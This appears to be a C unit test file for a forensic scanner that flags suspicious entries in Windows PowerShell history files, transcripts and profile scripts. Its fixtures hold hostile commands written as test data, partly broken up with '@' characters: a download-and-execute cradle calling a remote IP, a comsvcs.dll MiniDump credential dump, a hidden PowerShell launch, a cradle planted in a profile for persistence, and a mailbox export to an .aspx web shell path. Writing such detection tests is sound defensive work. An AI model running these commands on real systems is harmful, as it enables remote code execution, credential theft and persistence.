#include "files_bench.h"

#define HISTORY "AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"
#define CRADLE  "I@EX (New-Object Net.Web@Client).Download@String('http://198.51.100.23/a')\n"

static void test_typed(void **state)
{
    struct bench *b = *state;

    bench_text(b, "Users/a/" HISTORY, "dir\n" CRADLE CRADLE "rund@ll32 com@svcs.dll, Mini@Dump 612 C:\\x.dmp full\n");
    bench_text(b, "Windows/System32/config/systemprofile/" HISTORY, "dir\n");
    bench_text(b, "Users/a/Documents/20210303/PowerShell_transcript.X.abc.20210303.txt", "**********************\nHost Application: powershell -nop -w hidden -c " CRADLE "PS C:\\> dir\nI@EX (output)\n");
    bench_hunt(b);
    const struct file_fact *f = bench_find(b, FILE_FACT_NOTE, "files/powershell-history", "Net.WebClient");
    CHECK(f && f->severity == SEV_HIGH && f->cite.line == 2 && str_ihas(f->why, STR("2 lines")));
    f = bench_find(b, FILE_FACT_SECRET, "files/powershell-history", "612");
    CHECK(f && f->state == THING_UNKNOWN && f->cite.line == 4);
    CHECK(bench_find(b, FILE_FACT_NOTE, "files/powershell-system", "systemprofile"));
    CHECK(bench_find(b, FILE_FACT_NOTE, "files/powershell-transcript", "powershell"));
    CHECK(!bench_find(b, FILE_FACT_WAY_BACK, "files/powershell", ""));
}

static void test_profiles(void **state)
{
    struct bench *b = *state;

    bench_text(b, "Windows/System32/WindowsPowerShell/v1.0/profile.ps1", "# all users\nSet-Location C:\\\n" CRADLE);
    bench_text(b, "Users/a/Documents/WindowsPowerShell/Microsoft.PowerShell_profile.ps1", "Import-Module ActiveDirectory\nSet-Alias ll dir\n");
    bench_hunt(b);
    const struct file_fact *f = bench_find(b, FILE_FACT_WAY_BACK, "files/powershell-profile", "profile.ps1");
    CHECK(f && f->state == THING_PRESENT && str_eq(f->what, STR("powershell_profile")) && f->cite.line == 3);
    CHECK(bench_count(b, "files/powershell") == 1);
}

/* Lines that go on, in UTF-16, and a file of nothing but noise. */
static void test_shapes(void **state)
{
    struct bench *b = *state;
    char          wide[512];
    size_t        n = 2;
    const char   *s = "New-MailboxExportRequest -Mailbox x `\n -FilePath '\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx'\n";

    memcpy(wide, "\xff\xfe", 2);
    for (; *s; s++)
        wide[n++] = *s, wide[n++] = 0;
    bench_add(b, "Users/a/" HISTORY, (struct str){ (uint8_t *)wide, n });
    char *noise = malloc(1 << 20);
    for (size_t i = 0; i < 1 << 20; i++)
        noise[i] = (char)(i * 7919 >> 3);
    bench_add(b, "Users/b/" HISTORY, (struct str){ (uint8_t *)noise, 1 << 20 });
    free(noise);
    bench_hunt(b);
    const struct file_fact *f = bench_find(b, FILE_FACT_NOTE, "files/powershell-history", "FilePath");
    CHECK(f && f->cite.line == 1);
}

int main(void)
{
    const struct CMUnitTest tests[] = { BENCH_TEST(test_typed), BENCH_TEST(test_profiles), BENCH_TEST(test_shapes) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
